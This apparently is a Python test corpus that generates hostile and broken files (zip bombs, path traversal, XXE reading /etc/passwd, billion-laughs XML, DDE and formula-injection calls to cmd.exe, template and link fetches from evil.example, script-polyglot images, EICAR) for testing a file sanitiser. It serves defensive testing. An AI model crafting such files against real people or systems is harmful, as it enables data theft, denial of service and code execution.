# SPDX-License-Identifier: Apache-2.0
"""The corpus: every hostile or broken file that the tests and the benchmark throw at the cage."""

import io
import random
import struct
import zipfile
import zlib

from madoguchi.platform.files.sanitising.tests.good_files import (
    archive,
    docx,
    docx_parts,
    good_files,
    opendocument,
    picture,
    pptx,
    xlsx,
)
from madoguchi.platform.files.sanitising.tests.hostile_pdfs import EICAR, hostile_pdfs

_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "'
    + b"ha" * 50
    + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 50) for n in range(8))
    + b"]><a>&i;</a>"
)


def png_claiming(width, height):
    """A PNG of some bytes that says it is enormous."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(100_000), 9)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        for kind, content in ((b"IHDR", head), (b"IDAT", body), (b"IEND", b""))
    )  # fmt: skip


def jpeg_claiming(width, height):
    content = bytearray(picture("JPEG"))
    place = content.index(b"\xff\xc0")
    content[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def webp_claiming():
    content = bytearray(picture("WEBP"))
    place = content.index(b"\x9d\x01\x2a") + 3
    content[place : place + 4] = b"\xff\x3f\xff\x3f"
    return bytes(content)


def text_bomb_png():
    """A small picture whose compressed text unfolds to 300 megabytes."""
    text = b"Comment\0\0" + zlib.compress(bytes(300 * 1024 * 1024), 9)
    chunk = (
        struct.pack(">I", len(text))
        + b"zTXt"
        + text
        + struct.pack(">I", zlib.crc32(b"zTXt" + text))
    )
    good = picture("PNG")
    return good[:33] + chunk + good[33:]


def _zip_with(name, content, mode):
    parts = docx_parts()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for part, body in parts.items():
            target.writestr(part, body)
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        target.writestr(info, content)
    return out.getvalue()


def _twice():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for part, body in docx_parts().items():
            target.writestr(part, body)
        info = zipfile.ZipInfo("word/document.xmm")
        target.writestr(info, b"<a/>")
    return out.getvalue().replace(b"word/document.xmm", b"word/document.xml")


def _encrypted():
    content = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def _many_entries():
    return archive({**docx_parts(), **{f"word/x{n}.xml": b"" for n in range(6_000)}})


def hostile_archives():
    zeros = bytes(400 * 1024 * 1024)
    big = archive({**docx_parts(), "word/styles.xml": zeros})
    nested = archive({"a.zip": archive({"b.zip": archive({"c": zeros})})})
    return {
        "zip-bomb.docx": big,
        "zip-nested-bomb.docx": docx(more={"word/embeddings/a.zip": nested}),
        "zip-many-entries.docx": _many_entries(),
        "zip-symlink.docx": _zip_with("word/passwd", b"/etc/passwd", 0o120777),
        "zip-device.docx": _zip_with("word/null", b"", 0o020666),
        "zip-traversal.docx": _zip_with("../../../../tmp/evil", EICAR, 0o100644),
        "zip-absolute.docx": _zip_with("/etc/cron.d/evil", EICAR, 0o100644),
        "zip-backslash.docx": _zip_with("..\\..\\evil.exe", EICAR, 0o100644),
        "zip-same-name-twice.docx": _twice(),
        "zip-encrypted.docx": _encrypted(),
        "zip-with-eicar.docx": docx(more={"word/media/eicar.com": EICAR}),
        "zip-plain-eicar.docx": archive({"eicar.com": EICAR}),
        "zip-prefixed.docx": b"MZ" + EICAR + docx(),
        "zip-trailing.docx": docx() + EICAR * 3,
        "ole-locked.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
    }


_FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText>'
_FIELD += '</w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r><w:r>'
_FIELD += '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>見積</w:t></w:r><w:r>'
_FIELD += '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
_SIMPLE = '<w:p><w:fldSimple w:instr="INCLUDETEXT http://evil.example/a.docx"><w:r><w:t>本文'
_SIMPLE += "</w:t></w:r></w:fldSimple></w:p>"
_OLE = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
_OLE += 'Type="Embed" ProgID="Package" r:id="rId9"/></w:object></w:r></w:p>'
_CONTROL = '<w:p><w:r><w:control r:id="rId9" w:name="x"/></w:r></w:p>'
_LINK = '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>押す</w:t></w:r></w:hyperlink></w:p>'
_CHUNK = '<w:altChunk r:id="rId9"/>'
_OUTSIDE = f'<w:p><w:r><a:blip xmlns:a="urn:x" r:link="rId9"/></w:r></w:p>{_LINK}'
_SETTINGS = (
    '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<w:attachedTemplate r:id="rId1"/><w:mailMerge><w:query w:val="x"/></w:mailMerge>'
    "</w:settings>"
)
_TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://x/attachedTemplate" TargetMode="External" '
    b'Target="http://evil.example/t.dotm"/></Relationships>'
)
_VBA_PARTS = {
    "more_types": {"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
    "more_rels": (("rId9", _VBA, "vbaProject.bin", ""),),
    "more": {"word/vbaProject.bin": b"Attribute VB_Name = AutoOpen"},
}
_OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"


def hostile_documents():
    return {**acting_letters(), **malformed_letters(), **sheets_and_others()}


def acting_letters():
    """Word files that run, fetch or embed something."""
    return {
        "docm-renamed.docx": docx(main=_MACRO_MAIN, **_VBA_PARTS),
        "vba-in-docx.docx": docx(**_VBA_PARTS),
        "docm.docm": docx(main=_MACRO_MAIN, **_VBA_PARTS),
        "dde-field.docx": docx(body=_FIELD),
        "include-field.docx": docx(body=_SIMPLE),
        "ole-object.docx": docx(
            body=_OLE, more_types={"/word/embeddings/o.bin": _OLE_TYPE},
            more_rels=(("rId9", "oleObject", "embeddings/o.bin", ""),),
            more={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0" + EICAR},
        ),
        "activex.docx": docx(
            body=_CONTROL,
            more_types={"/word/activeX/a.xml": "application/vnd.ms-office.activeX+xml"},
            more_rels=(("rId9", "control", "activeX/a.xml", ""),),
            more={"word/activeX/a.xml": b"<ax:ocx xmlns:ax='u'/>"},
        ),
        "external-link.docx": docx(
            body=_LINK, more_rels=(("rId9", "hyperlink", "http://evil.example/", "External"),)
        ),
        "external-image.docx": docx(
            body=_OUTSIDE, more_rels=(("rId9", "image", "http://evil.example/a.png", "External"),)
        ),
        "alt-chunk.docx": docx(
            body=_CHUNK, more_rels=(("rId9", "aFChunk", "evil.html", ""),),
            more={"word/evil.html": b"<script>x()</script>"}, defaults=(("html", "text/html"),),
        ),
        "template.docx": docx(
            more_types={"/word/settings.xml": "application/vnd.openxmlformats-officedocument."
                        "wordprocessingml.settings+xml"},
            more_rels=(("rId9", "settings", "settings.xml", ""),),
            more={"word/settings.xml": _SETTINGS.encode(),
                  "word/_rels/settings.xml.rels": _TEMPLATE},
        ),
    }  # fmt: skip


def malformed_letters():
    """Word files whose XML or parts are traps."""
    return {
        "xxe-custom-xml.docx": docx(more={"customXml/item1.xml": _XXE}),
        "xxe-main.docx": docx(more={"word/document.xml": _XXE}),
        "laughs-main.docx": docx(more={"word/document.xml": _LAUGHS}),
        "laughs-rels.docx": docx(more={"_rels/.rels": _LAUGHS}),
        "deep-xml.docx": docx(body="<w:p>" * 50_000 + "</w:p>" * 50_000),
        "utf7-xml.docx": docx(more={"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AD4-'}),
        "relation-loop.docx": docx(more_rels=(("rId9", "styles", "document.xml", ""),)),
        "escaping-relation.docx": docx(more_rels=(("rId9", "styles", "../../../etc/passwd", ""),)),
        "fake-picture.docx": docx(more={"word/media/image1.png": EICAR}),
        "dirty-picture.docx": docx(more={"word/media/image1.png": picture("PNG") + EICAR}),
    }  # fmt: skip


def sheets_and_others():
    """Excel, PowerPoint and OpenDocument files that act."""
    return {
        "formulas.xlsx": xlsx(
            formulas=("=SUM(B1:B2)", '=HYPERLINK("http://evil.example/")', "=cmd|'/c calc'!A0",
                      '=WEBSERVICE("http://evil.example/")', "='[1]a'!A1")
        ),
        "macros.xlsm": archive({**_parts(xlsx()), "xl/vbaProject.bin": b"AutoOpen"}),
        "macros-renamed.xlsx": _macro_workbook(),
        "external-book.xlsx": _with_external_book(),
        "action.pptx": pptx(
            slide_more="<p:pic><a:hlinkClick r:id='rId9' action='ppaction://program'/></p:pic>",
            slide_rels=(("rId9", "hyperlink", "cmd.exe", "External"),),
        ),
        "macro.odt": opendocument(
            scripts="<office:scripts><office:script script:language='x'>Shell()</office:script>"
            "</office:scripts>",
            more={"Basic/Standard/M.xml": b"<Sub/>", "Scripts/python/e.py": b"import os"},
        ),
        "links.odt": opendocument(
            body="<draw:image xlink:href='file:///etc/passwd'/>"
            "<text:a xlink:href='http://evil.example/'>x</text:a><draw:object xlink:href='./O'/>"
        ),
        "dde.ods": opendocument(
            "spreadsheet", body="<table:dde-links/><table:table-cell table:formula="
            "'of:=DDE(&quot;soffice&quot;;&quot;x&quot;)'/>",
        ),
        "xxe.odt": opendocument(more={"content.xml": _XXE}),
    }  # fmt: skip


def _parts(content):
    with zipfile.ZipFile(io.BytesIO(content)) as source:
        return {name: source.read(name) for name in source.namelist()}


def _macro_workbook():
    parts = _parts(xlsx())
    parts["xl/macrosheets/sheet1.xml"] = b"<xm:macrosheet xmlns:xm='u'/>"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>",
        b"</sheets><definedNames><definedName name='_xlnm.Auto_Open'>M!$A$1</definedName>"
        b"</definedNames>",
    )
    return archive(parts)


def _with_external_book():
    parts = _parts(xlsx())
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", b"</sheets><externalReferences><externalReference r:id='rId99'/>"
        b"</externalReferences>",
    )  # fmt: skip
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b"<Relationship Id='rId99' Type='http://x/externalLink' "
        b"Target='externalLinks/e.xml'/></Relationships>",
    )  # fmt: skip
    parts["xl/externalLinks/e.xml"] = b"<externalLink/>"
    return archive(parts)


def hostile_pictures():
    tiff = picture("TIFF")
    return {
        "pixel-flood.png": png_claiming(100_000, 100_000),
        "pixel-flood-2.png": png_claiming(2**31 - 1, 2**31 - 1),
        "pixel-flood.jpg": jpeg_claiming(65_000, 65_000),
        "pixel-flood.webp": webp_claiming(),
        "pixel-flood.tiff": tiff[:4] + tiff[4:].replace(b"\xa0\0", b"\xff\xff"),
        "text-bomb.png": text_bomb_png(),
        "svg.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="999999"/>',
        "svg-renamed.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "gif-and-script.gif": b"GIF89a=1;alert(1)//" + picture("GIF")[13:],
        "gif-renamed.png": picture("GIF") + b";alert(1)",
        "jpeg-and-zip.jpg": picture("JPEG") + archive({"evil.exe": b"MZ" + EICAR}),
        "jpeg-with-comment.jpg": picture("JPEG", comment=b"<script>alert(1)</script>" + EICAR),
        "png-and-zip.png": picture("PNG") + archive({"evil.exe": EICAR}),
        "webp-trailing.webp": picture("WEBP") + EICAR,
        "odd-profile.png": picture("PNG", icc_profile=b"\xff" * 3000),
        "heic.heic": b"\0\0\0\x18ftypheic" + bytes(500),
    }


def hostile_words():
    return {
        "eicar.txt": EICAR,
        "eicar.com": EICAR,
        "formulas.csv": "氏名,メモ\n=cmd|'/c calc'!A0,@SUM(1)\n+1+1,-5\n".encode(),
        "direction.txt": "申請書\u202efdp.exe\u2066\x1b[2J\0".encode(),
        "long-line.csv": b'"' + b"a" * 6_000_000,
        "not-text.txt": bytes(range(256)) * 50,
        "elf.txt": b"\x7fELF" + bytes(5_000),
        "empty.pdf": b"",
        "empty.docx": b"",
        "empty.jpg": b"",
        "zeros.pdf": bytes(100_000),
        "wrong-ending.pdf": picture("JPEG"),
        "wrong-ending.jpg": docx(),
        "wrong-ending.docx": xlsx(),
        "wrong-ending.xlsx": picture("PNG"),
        "no-ending": docx(),
        "script.html": b"<script>alert(1)</script>",
    }


def broken_files(per_file=4):
    """Honest files cut short and with bits turned over, the same ones each time."""
    chance = random.Random(20261121)
    made = {}
    for name, content in good_files().items():
        stem, _, ending = name.partition(".")
        for number in range(per_file):
            cut = chance.randrange(1, len(content))
            made[f"cut-{number}-{stem}.{ending}"] = content[:cut]
            flipped = bytearray(content)
            for _ in range(1 + number * 8):
                flipped[chance.randrange(len(flipped))] ^= 1 << chance.randrange(8)
            made[f"flipped-{number}-{stem}.{ending}"] = bytes(flipped)
    return made


def hostile_files():
    """The whole corpus: name → content."""
    return {
        **hostile_pdfs(), **hostile_archives(), **hostile_documents(), **hostile_pictures(),
        **hostile_words(), **broken_files(),
    }  # fmt: skip
